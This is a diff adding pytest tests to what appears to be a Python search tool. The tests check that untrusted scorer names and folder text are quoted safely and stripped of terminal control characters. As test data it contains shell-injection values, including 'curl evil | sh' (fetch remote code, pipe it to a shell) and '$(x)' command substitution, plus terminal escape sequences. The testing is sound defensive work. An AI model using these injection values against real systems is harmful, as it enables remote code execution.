@@ -192,6 +192,43 @@ def test_an_encoder_that_a_folder_names_takes_the_same_consent(tmp_path: Path, k
     assert adacur.load(index, scorer=score, encoder=Encoder()).search("red", k=2, budget=5, first="dense")
 
 
+@pytest.mark.parametrize(
+    ("source", "typed"),
+    [
+        ("a:b; curl evil | sh", "--scorer 'a:b; curl evil | sh' in"),
+        ("a:b$(x)", "--scorer 'a:b$(x)' in"),
+        ("a:b\x1b]0;t\x07", "--scorer … in"),
+    ],
+)
+def test_the_option_to_paste_is_one_word_to_the_shell(wiki: Path, source: str, typed: str) -> None:
+    name_scorer(wiki, source)
+    with adacur.load(wiki) as index, pytest.raises(NotTrusted) as refused:
+        _ = index.scorer
+    assert typed in str(refused.value)
+    assert "\x1b" not in str(refused.value)
+
+
+@pytest.mark.parametrize("columns", ["100", None])
+def test_tables_and_json_of_a_folder_give_the_terminal_no_orders(capsys, monkeypatch, columns) -> None:
+    from rich.table import Table
+
+    from adacur.cli.messages import plain, print_json, print_table, say
+
+    monkeypatch.delenv("COLUMNS", raising=False)
+    if columns is not None:
+        monkeypatch.setenv("COLUMNS", columns)
+    text = "red \x1b]0;title\x07 \x9b31m \x7f \ud800 thing"
+    (table := Table("item")).add_row(text)
+    print_table(table)
+    print_json({"text": text})
+    say(plain(text))
+    told = capsys.readouterr().out
+    assert told.count("title") == 3
+    assert not set(told) & {"\x1b", "\x9b", "\x07", "\x7f", "\ud800"}
+    (line,) = (line for line in told.splitlines() if line.startswith("{"))
+    assert json.loads(line) == {"text": text}
+
+
 def test_the_texts_of_a_folder_give_the_terminal_no_orders(wiki: Path, capsys) -> None:
     from adacur.cli.messages import failed, print_table, say, tell
 
